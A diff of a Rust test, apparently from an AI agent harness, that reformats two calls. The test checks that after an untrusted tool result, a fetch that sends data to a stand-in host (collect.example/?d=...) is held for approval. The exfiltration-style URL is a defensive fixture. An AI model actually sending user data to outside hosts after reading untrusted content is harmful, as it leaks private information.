@@ -137,13 +137,21 @@ async fn an_untrusted_result_makes_sending_ask_this_turn_and_the_next() {
     let denied = calls[0].1.as_deref().unwrap_or_default();
     assert!(denied.contains("no client is connected"), "{denied}");
 
-    turn(&setup, "Fetch https://collect.example/?d=remember-the-milk now.").await;
+    turn(
+        &setup,
+        "Fetch https://collect.example/?d=remember-the-milk now.",
+    )
+    .await;
     assert_eq!(setup.fetch.runs(), 0);
     let calls = fetch_calls(&setup.events.all());
     assert_eq!(calls.len(), 2, "{calls:?}");
     assert!(calls[1].0 && calls[1].1.is_some(), "{calls:?}");
 
-    turn(&setup, "Fetch https://collect.example/?d=remember-the-milk again.").await;
+    turn(
+        &setup,
+        "Fetch https://collect.example/?d=remember-the-milk again.",
+    )
+    .await;
     assert_eq!(setup.fetch.runs(), 1);
     let calls = fetch_calls(&setup.events.all());
     assert_eq!(calls.last(), Some(&(false, None)), "{calls:?}");
